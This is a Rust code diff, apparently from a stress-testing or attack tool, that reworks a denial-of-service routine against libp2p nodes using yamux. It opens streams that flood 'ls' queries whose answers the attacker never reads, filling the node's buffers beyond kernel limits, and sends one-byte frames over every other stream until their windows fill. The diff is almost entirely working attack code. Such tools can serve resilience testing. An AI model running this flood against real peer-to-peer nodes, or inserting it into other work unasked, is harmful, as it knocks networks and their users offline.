@@ -17,8 +17,10 @@ use crate::{Outcome, Setting};
 /// The receive window of a new stream (yamux spec, section "Flow Control").
 const WINDOW: usize = 256 << 10;
 
-/// Questions whose answers fill the node's buffers, because nobody reads them.
-const QUESTIONS: usize = 60_000;
+/// Streams full of questions. The answers to each of them fill a window of the attacker, who reads nothing: together, more than
+/// the kernel holds for a connection.
+const ASKING: u32 = 24;
+const QUESTIONS: usize = 4_000;
 
 /// One-byte frames per write.
 const BATCH: usize = 4_096;
@@ -31,8 +33,8 @@ pub(crate) fn frames_64(setting: &Setting) -> Result<Outcome> {
 }
 
 pub(crate) fn frames_256(setting: &Setting) -> Result<Outcome> {
-    // Two of the 256 streams that a peer may open are those of the first step.
-    frames(setting, 254)
+    // As many streams as one peer may open, with those that ask.
+    frames(setting, 256 - ASKING)
 }
 
 fn frames(setting: &Setting, streams: u32) -> Result<Outcome> {
@@ -61,25 +63,22 @@ fn frames(setting: &Setting, streams: u32) -> Result<Outcome> {
 /// Blocks the node's writer, opens the streams, and sends one-byte frames over all of them in turn until their windows are full
 /// or the flood is over. Keeps the connection until then.
 async fn fill(aim: &Aim, streams: u32) -> Result<()> {
-    let mut node = libp2p::raw_muxer(source(0), aim.tcp).await?;
+    let mut node = libp2p::raw_muxer(source(0), aim).await?;
     let mut send = async |bytes: &[u8]| -> Result<()> {
         timeout(PATIENCE, node.write_all(bytes)).await??;
         timeout(PATIENCE, node.flush()).await??;
-        Counts::add(&aim.counts.sent, bytes.len());
         Ok(())
     };
-    let questions = libp2p::message("ls").repeat(QUESTIONS);
     let header = libp2p::message("/multistream/1.0.0");
-    send(&frame(DATA, SYN, 1, &header)).await?;
-    for part in questions.chunks(16 << 10).take(WINDOW / (16 << 10) - 1) {
-        send(&frame(DATA, 0, 1, part)).await?;
-    }
+    let questions = libp2p::message("ls").repeat(QUESTIONS);
+    let asking = [header, questions].concat();
     let opening = libp2p::proposal(IDENTIFY);
-    let numbers: Vec<u32> = (1..=streams).map(|n| 2 * n + 1).collect();
-    for number in &numbers {
-        send(&frame(DATA, SYN, *number, &opening)).await?;
+    for n in 0..ASKING + streams {
+        let said = if n < ASKING { &asking } else { &opening };
+        send(&frame(DATA, SYN, 2 * n + 1, said)).await?;
         Counts::add(&aim.counts.streams, 1);
     }
+    let numbers: Vec<u32> = (ASKING..ASKING + streams).map(|n| 2 * n + 1).collect();
     let frames = numbers
         .iter()
         .flat_map(|number| frame(DATA, 0, *number, &[7]));
